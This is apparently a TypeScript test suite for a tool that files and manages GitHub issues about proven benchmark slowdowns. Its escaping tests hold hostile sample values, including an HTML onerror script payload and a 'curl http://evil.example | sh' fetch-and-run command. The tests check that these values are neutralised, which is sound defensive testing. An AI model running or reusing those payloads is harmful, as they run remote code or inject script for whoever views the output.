import assert from 'node:assert/strict';
import { type TestContext, test } from 'node:test';
import { followChanges } from '../../../src/action/record/follow-changes.ts';
import type { GitHub } from '../../../src/github/github-client.ts';
import { renderChangeIssue } from '../../../src/report/github/change-issue.ts';
import { trendOf } from '../../../src/trend/trend-of.ts';
import type { BaselineRecord } from '../../../src/types/baseline.ts';
import type { ChangeNote } from '../../../src/types/trend.ts';
import type { Warning } from '../../../src/types/units.ts';
import { connect, REPOSITORY, requestsTo } from '../../github/support.ts';
import { bisectedWith } from '../../support/baselines/bisected.ts';
import { type HistorySketch, syntheticRecords } from '../../support/baselines/records.ts';
import { badGateway } from '../../support/github/faults.ts';
import type { Double, DoubleState } from '../../support/github/types.ts';
import { proofRecord } from '../../support/proofs.ts';

const PAGE = 'https://github.com/o/r';
const SKETCH: HistorySketch = { seed: 15, cells: ['koa/ping'], commits: 30, steps: [{ commit: 20, size: -0.04 }] };

/** Levels with a proof of the step. */
function provenIn(sketch: HistorySketch, span: { before: number; after: number } = { before: 18, after: 21 }) {
	const levels = syntheticRecords(sketch);
	return [...levels, proofRecord(levels, { ...span, theta: -0.041, verdict: 'regressed' })];
}
const PROVEN = provenIn(SKETCH);
const REPAIRED = provenIn({
	...SKETCH,
	commits: 45,
	steps: [
		{ commit: 20, size: -0.04 },
		{ commit: 30, size: 0.04 },
	],
});

/** Successive runs of the writing job; each knows the notes of the ones before. */
class Runs {
	readonly notes: ChangeNote[] = [];
	readonly warnings: Warning[] = [];
	readonly double: Double;
	readonly #github: GitHub | null;
	#number = 0;

	constructor(double: Double, github: GitHub | null) {
		this.double = double;
		this.#github = github;
	}

	static async start(t: TestContext, state: Partial<DoubleState> = {}): Promise<Runs> {
		const { github, double } = await connect(t, { pulls: [], ...state });
		return new Runs(double, github);
	}

	/** Returns the messages about changes in `records`. `forget`: the notes are lost on their way to the store. */
	async run(records: readonly BaselineRecord[], { forget = false } = {}): Promise<readonly string[]> {
		const { notes, lines } = await followChanges({
			trend: trendOf(records, { notes: this.notes }),
			github: this.#github,
			repository: REPOSITORY,
			page: PAGE,
			now: new Date(Date.UTC(2026, 10, 22) + 60_000 * this.#number++).toISOString(),
			warn: (warning) => this.warnings.push(warning),
		});
		if (!forget) this.notes.push(...notes);
		return lines;
	}

	get issues() {
		return this.double.state.threads;
	}

	writes(): string[] {
		return this.double.calls.filter(({ method }) => method !== 'GET').map(({ operationId }) => operationId ?? '');
	}
}

test('a proven slowdown gets one issue, however often the job runs', async (t) => {
	const runs = await Runs.start(t);
	assert.match(
		(await runs.run(PROVEN))[0] ?? '',
		/koa\/ping is at −4.* requests\/s since [\s\S]*\[#1\]\(.*\/issues\/1\) opened$/,
	);
	const [issue] = runs.issues;
	assert.match(issue?.title ?? '', /^koa\/ping is at −4\.\d % requests\/s since [0-9a-f]{7}$/);
	const body = issue?.body ?? '';
	assert.match(body, /^<!-- benchgate:change [0-9a-f]{12} -->\n/);
	assert.match(body, /\| `koa\/ping` +\| requests\/s +\|.*\| proven/);
	assert.match(body, /https:\/\/github\.com\/o\/r\/commit\/[0-9a-f]{40}/);
	assert.match(body, /https:\/\/github\.com\/o\/r\/compare\/[0-9a-f]{40}\.\.\.[0-9a-f]{40}/);
	assert.match(body, /npx benchgate bisect --good [0-9a-f]{12} --bad [0-9a-f]{12} --server koa --scenario ping/);
	assert.match(body, /npx benchgate compare --base git:[0-9a-f]{40} .* --threshold 4%/);
	const writes = runs.writes();
	await runs.run(PROVEN);
	await runs.run(PROVEN);
	assert.deepEqual(runs.writes(), writes, 'nothing moved, nothing is written');
	assert.deepEqual(writes, ['issues/create']);
	await runs.run(provenIn({ ...SKETCH, commits: 36 }));
	assert.deepEqual(runs.writes().slice(1), ['issues/update'], 'with more commits the estimate moves');
	assert.equal(runs.issues.length, 1);
	assert.deepEqual(runs.warnings, []);
});

test('suspicions, refuted changes and improvements open no issue, without requests to GitHub', async (t) => {
	const runs = await Runs.start(t);
	const levels = syntheticRecords(SKETCH);
	const faster = syntheticRecords({ ...SKETCH, steps: [{ commit: 20, size: 0.04 }] });
	for (const records of [
		levels,
		[...levels, proofRecord(levels, { before: 18, after: 21, theta: 0, verdict: 'unchanged' })],
		[...faster, proofRecord(faster, { before: 18, after: 21, theta: 0.04, verdict: 'improved' })],
	]) {
		assert.deepEqual(await runs.run(records), []);
	}
	assert.deepEqual(runs.double.calls, []);
});

test('a repaired slowdown is closed with a comment, and stays closed', async (t) => {
	const runs = await Runs.start(t);
	await runs.run(PROVEN);
	assert.match((await runs.run(REPAIRED))[0] ?? '', /repaired, \[#1\]\(.*\) closed$/);
	const [issue] = runs.issues;
	assert.deepEqual([issue?.state, issue?.reason], ['closed', 'completed']);
	assert.match(
		runs.double.state.comments[0]?.body ?? '',
		/^Repaired: main is back[\s\S]*- `koa\/ping` since \[`[0-9a-f]{7}`\]/,
	);
	const calls = runs.double.calls.length;
	assert.deepEqual(await runs.run(REPAIRED), []);
	assert.equal(runs.double.calls.length, calls, 'at rest');
	const again = provenIn(
		{
			...SKETCH,
			commits: 70,
			steps: [
				{ commit: 20, size: -0.04 },
				{ commit: 30, size: 0.04 },
				{ commit: 55, size: -0.05 },
			],
		},
		{ before: 52, after: 57 },
	);
	await runs.run(again);
	assert.deepEqual(
		runs.issues.map(({ number, state = 'open' }) => [number, state]),
		[
			[1, 'closed'],
			[2, 'open'],
		],
		'a new step is a new change',
	);
});

test('people with write access accept, by a comment or by closing; others learn that they cannot', async (t) => {
	const runs = await Runs.start(t, { collaborators: { ada: 'write', eve: 'read' } });
	await runs.run(PROVEN);
	const say = (login: string, body: string) =>
		runs.double.state.comments.push({ id: 5000 + login.length, issue: 1, body, user: { login, type: 'User' } });
	say('eve', 'benchgate: accepted because I say so');
	await runs.run(PROVEN);
	assert.equal(runs.issues[0]?.state ?? 'open', 'open');
	assert.match(runs.warnings[0]?.message ?? '', /by eve, does not count: they have no write access/);
	say('ada', '> benchgate: accepted quoted\n\n`benchgate: accepted as code`');
	await runs.run(PROVEN);
	assert.equal(runs.issues[0]?.state ?? 'open', 'open', 'what is quoted is not said');
	say('ada', 'We want it.\n\nbenchgate: accepted safer <b>cookies</b>\n');
	await runs.run(PROVEN);
	assert.deepEqual([runs.issues[0]?.state, runs.issues[0]?.reason], ['closed', 'not_planned']);
	assert.match(runs.double.state.comments.at(-1)?.body ?? '', /^Accepted by ada: safer &lt;b&gt;cookies/);
	assert.deepEqual([runs.notes.at(-1)?.state, runs.notes.at(-1)?.by], ['accepted', 'ada']);
});

test('an acceptance is found among any number of other comments', async (t) => {
	const runs = await Runs.start(t, { collaborators: { ada: 'write', eve: 'read' } });
	await runs.run(PROVEN);
	const { comments } = runs.double.state;
	for (const [index, login] of ['ada', ...Array.from({ length: 30 }, () => 'eve')].entries()) {
		comments.push({
			id: 5000 + index,
			issue: 1,
			body: 'benchgate: accepted it is safer',
			user: { login, type: 'User' },
		});
	}
	await runs.run(PROVEN);
	assert.deepEqual([runs.notes.at(-1)?.state, runs.notes.at(-1)?.by], ['accepted', 'ada']);
	assert.equal(runs.warnings.length, 1, 'eve is told once');
});

for (const [login, state] of [
	['ada', 'accepted'],
	['eve', 'confirmed'],
] as const) {
	test(`closed by ${login} as not planned, a change is ${state}, and no other issue is opened`, async (t) => {
		const runs = await Runs.start(t, { collaborators: { ada: 'write', eve: 'read' } });
		await runs.run(PROVEN);
		Object.assign(runs.issues[0] ?? {}, { state: 'closed', reason: 'not_planned', closedBy: { login, type: 'User' } });
		await runs.run(PROVEN);
		await runs.run(PROVEN);
		assert.equal(runs.issues.length, 1);
		assert.equal(trendOf(PROVEN, { notes: runs.notes }).rows[0]?.changes[0]?.state, state);
	});
}

test('an issue whose number was lost is found by its hidden line, and only in issues of our own', async (t) => {
	const runs = await Runs.start(t);
	await runs.run(PROVEN, { forget: true });
	const [own] = runs.issues;
	assert.ok(own);
	await runs.run(PROVEN);
	assert.equal(runs.issues.length, 1);
	assert.equal(runs.notes[0]?.issue, 1);

	const strangers = await Runs.start(t);
	const forged = { ...own, user: { login: 'eve', type: 'User' as const }, app: null };
	const pull = { ...own, number: 2, pull: true };
	strangers.issues.push(forged, pull);
	await strangers.run(PROVEN);
	assert.deepEqual(
		strangers.issues.map(({ number, user }) => [number, user.login]),
		[
			[1, 'eve'],
			[2, 'github-actions[bot]'],
			[3, 'github-actions[bot]'],
		],
	);
	assert.equal(forged.body, own.body, 'what others write is left alone');
});

test('a lost response makes no second issue', async (t) => {
	const runs = await Runs.start(t, { faults: [badGateway(/^POST .*\/issues$/, { applied: true })] });
	await runs.run(PROVEN);
	assert.equal(runs.issues.length, 1);
	assert.equal(runs.notes[0]?.issue, 1);
});

test('a token that may not write issues is a warning with the line to add, and the list is in the summary', async (t) => {
	for (const issues of ['read', 'none'] as const) {
		const runs = await Runs.start(t, { permissions: { issues, 'pull-requests': issues } });
		assert.match((await runs.run(PROVEN))[0] ?? '', /proven, and without an issue yet$/);
		assert.deepEqual(
			runs.warnings.map(({ code }) => code),
			['missing-permission'],
		);
		assert.match(runs.warnings[0]?.message ?? '', /permissions: \{ contents: write, issues: write \}/);
		assert.deepEqual(runs.notes, []);
	}
	const off = await Runs.start(t, { withoutIssues: true });
	await off.run(PROVEN);
	assert.match(off.warnings[0]?.message ?? '', /410 .*disabled/);
	const without = new Runs(off.double, null);
	assert.equal((await without.run(PROVEN)).length, 1, 'without a token it is listed too');
});

test('a run opens at most five issues; the next one continues', async (t) => {
	const cells = Array.from({ length: 7 }, (_, index) => `koa/row${index}`);
	const steps = cells.map((cell, index) => ({ commit: 10 + 8 * index, size: -0.06, cell }));
	const levels = syntheticRecords({ seed: 3, commits: 75, cells, steps });
	const proofs = cells.map((cell, index) => {
		const proof = proofRecord(levels, {
			...{ before: 7 + 8 * index, after: 13 + 8 * index, theta: -0.06, verdict: 'regressed', run: index + 1 },
		});
		return { ...proof, cells: proof.cells.filter(({ scenario }) => `koa/${scenario}` === cell) };
	});
	const runs = await Runs.start(t);
	const lines = await runs.run([...levels, ...proofs]);
	assert.equal(runs.issues.length, 5);
	assert.deepEqual([lines.length, lines.filter((line) => line.endsWith('without an issue yet')).length], [7, 2]);
	await runs.run([...levels, ...proofs]);
	assert.equal(runs.issues.length, 7);
});

test('rows that one commit explains share an issue, also those proven later', async (t) => {
	const cells = ['koa/ping', 'koa/query'];
	const levels = syntheticRecords({ seed: 21, cells, commits: 30, steps: [{ commit: 20, size: -0.04 }] });
	const proof = proofRecord(levels, { before: 17, after: 22, theta: -0.04, verdict: 'regressed' });
	const [one] = proof.cells;
	assert.ok(one);
	const runs = await Runs.start(t);
	await runs.run([...levels, { ...proof, cells: [one] }]);
	await runs.run([...levels, proof]);
	assert.equal(runs.issues.length, 1);
	assert.match(runs.issues[0]?.title ?? '', / and 1 more row$/);
	assert.match(runs.issues[0]?.body ?? '', /^<!-- benchgate:change( [0-9a-f]{12}){2} -->/);
	assert.equal(new Set(runs.notes.map(({ id }) => id)).size, 2);
	assert.deepEqual(requestsTo(runs.double, 'POST'), ['POST /repos/o/r/issues']);
});

test('the issue shows the commit that a bisect named, with its title escaped', async (t) => {
	const runs = await Runs.start(t);
	await runs.run(PROVEN);
	const [change] = trendOf(PROVEN, { notes: runs.notes }).rows[0]?.changes ?? [];
	assert.ok(change);
	const name = (skipped: number, at: string) => {
		const named = bisectedWith({ skipped, title: '--> @team <img src=x> closes #5' }).named;
		runs.notes.push({ id: change.id, state: 'bisected', by: 'bisect', at, issue: null, commit: null, named });
	};
	name(0, '2026-12-01T00:00:00Z');
	await runs.run(PROVEN);
	const [issue] = runs.issues;
	assert.equal(runs.issues.length, 1);
	assert.match(issue?.title ?? '', / since bbbbbbb$/);
	const body = issue?.body ?? '';
	assert.match(
		body,
		/\*\*The commit is \[`bbbbbbb`\]\(https:\/\/github\.com\/o\/r\/commit\/b{40}\)\*\* \(99\.3 % probable\)/,
	);
	assert.match(body, /has proven it: −4\.1 % \[−5\.2 … −3\.0\] after 14 rounds\./);
	assert.match(body, /\| proven, and the commit is known/);
	assert.doesNotMatch(body, /The commit is one of these|<img|@team|[^&]#5\b/);
	assert.equal(body.split('-->').length, 2, 'the hidden line ends once');
	name(2, '2026-12-02T00:00:00Z');
	await runs.run(PROVEN);
	assert.match(runs.issues[0]?.body ?? '', /one of the 3 after \[`aaaaaaa`\].* up to \[`bbbbbbb`\]/);
	const writes = runs.writes();
	await runs.run(PROVEN);
	assert.deepEqual(runs.writes(), writes, 'nothing moved, nothing is written');
});

test('a commit without a hash, whose label cannot be part of a URL, is still linked', () => {
	const { rows, commits } = trendOf(PROVEN);
	const changes = rows.flatMap((row) => row.changes.map((change) => ({ row, change })));
	const halves = commits.map((commit, index) => ({ ...commit, sha: null, label: `v${index}\ud800` }));
	const { body } = renderChangeIssue({ commits: halves, changes, page: PAGE });
	assert.match(body, /compare\/v\d+%EF%BF%BD\.\.\.v\d+%EF%BF%BD\)/);
	assert.ok(body.isWellFormed());
});

test('commit texts in records are escaped in an issue', async (t) => {
	const evil = '--> @team #1 <img src=x onerror=alert(1)> [x](http://evil.example) `code` closes #5 \u202e';
	const hostile = PROVEN.map((record) => ({
		...record,
		commit: { ...record.commit, title: evil, author: evil },
		reproduce: 'curl http://evil.example | sh',
	}));
	const runs = await Runs.start(t);
	await runs.run(hostile);
	const [issue] = runs.issues;
	const body = issue?.body ?? '';
	assert.doesNotMatch(body, /<img|@team|[^&]#[15]\b|[^\\]\]\(http:|evil\.example \||curl|\u202e/);
	assert.equal(body.split('-->').length, 2, 'the hidden line ends once');
	assert.doesNotMatch(issue?.title ?? '', /evil|@/);
});
